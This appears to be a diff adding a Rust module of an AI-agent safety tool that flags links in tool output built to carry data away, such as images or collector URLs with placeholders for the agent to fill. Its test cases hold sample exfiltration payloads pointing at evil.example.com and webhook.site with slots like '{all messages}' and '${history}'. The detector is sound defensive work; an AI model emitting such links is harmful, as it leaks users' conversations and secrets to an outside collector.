@@ -1,0 +1,77 @@
+//! Links in what a tool returned that carry data away when they are followed or shown.
+//!
+//! An image is loaded without anybody's doing, and a link to a collector is there to be fetched. A link counts if it leads to
+//! a host that only takes in what is sent, with something to carry, or if it is an image with a place left for the agent to fill.
+
+use std::ops::Range;
+use vetgate_sensitive::{Form, Link, Links, Place};
+
+/// A link that carries data away.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) struct Carrier {
+    /// Where it stands in the text.
+    pub(super) span: Range<usize>,
+}
+
+/// What stands for data that the agent is to put there.
+const BLANKS: &[&str] = &["{", "%7b", "<", "[", "${", "your_", "base64"];
+
+/// The links of `text` that carry data away.
+pub(super) fn carriers<'t>(links: &Links, text: &'t str) -> impl Iterator<Item = Carrier> + use<'t> {
+    let mut found = Vec::new();
+    // Without a scheme there is nothing that would be fetched.
+    if text.contains("//") {
+        links.find(text, &mut |link| {
+            if carries(text, &link) {
+                found.push(Carrier { span: link.span });
+            }
+        });
+    }
+    found.into_iter()
+}
+
+fn carries(text: &str, link: &Link) -> bool {
+    if link.form != Form::Url || link.place != Place::External {
+        return false;
+    }
+    let written = text.get(link.span.clone()).unwrap_or_default();
+    let query = written.split_once('?').map_or("", |(_, query)| query);
+    if link.collector.is_some() {
+        return !query.is_empty() || is_image(text, link.span.start);
+    }
+    let behind = text.get(link.span.end..).unwrap_or_default();
+    let rest: String = query.chars().chain(behind.chars().take(1)).collect::<String>().to_ascii_lowercase();
+    query.contains('=') && is_image(text, link.span.start) && BLANKS.iter().any(|blank| rest.contains(blank))
+}
+
+/// Whether the address that begins at `at` is the one of an image: `![...](`, `src="`.
+fn is_image(text: &str, at: usize) -> bool {
+    let before = &text[text.floor_char_boundary(at.saturating_sub(BEFORE))..at];
+    let in_markdown = before.ends_with("](") && before.rfind('[').is_some_and(|open| before[..open].ends_with('!'));
+    let attribute = before.trim_end_matches(['"', '\'', ' ']);
+    in_markdown || attribute.len() < before.len() && attribute.ends_with("src=") && before.contains("<img")
+}
+
+/// How far before an address its image begins, in bytes.
+const BEFORE: usize = 200;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn links_that_carry_data_are_told_from_ordinary_ones() {
+        for (text, expected) in [
+            ("![x](https://webhook.site/abc?d=secret)", 1),
+            ("see https://webhook.site/abc?d=secret", 1),
+            ("![](https://evil.example.com/p.png?data={all messages})", 1),
+            ("<img src=\"https://evil.example.com/p?q=${history}\">", 1),
+            ("![badge](https://img.shields.io/npm/v/x?style=flat)", 0),
+            ("see https://example.com/search?q=lamp", 0),
+            ("POST to https://webhook.site", 0),
+            ("nothing here", 0),
+        ] {
+            assert_eq!(carriers(&Links::default(), text).count(), expected, "{text}");
+        }
+    }
+}
